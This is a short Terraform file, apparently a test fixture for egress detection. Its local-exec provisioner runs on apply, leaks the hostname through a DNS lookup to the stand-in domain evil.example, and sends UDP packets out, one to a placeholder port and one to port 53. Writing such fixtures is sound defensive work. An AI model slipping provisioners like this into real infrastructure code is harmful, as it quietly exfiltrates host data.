resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      getent hosts $(hostname).evil.example || echo no name
      echo x >/dev/udp/127.0.0.1/__UDP__
      echo x >/dev/udp/192.0.2.53/53
      echo tried
    EOT
  }
}
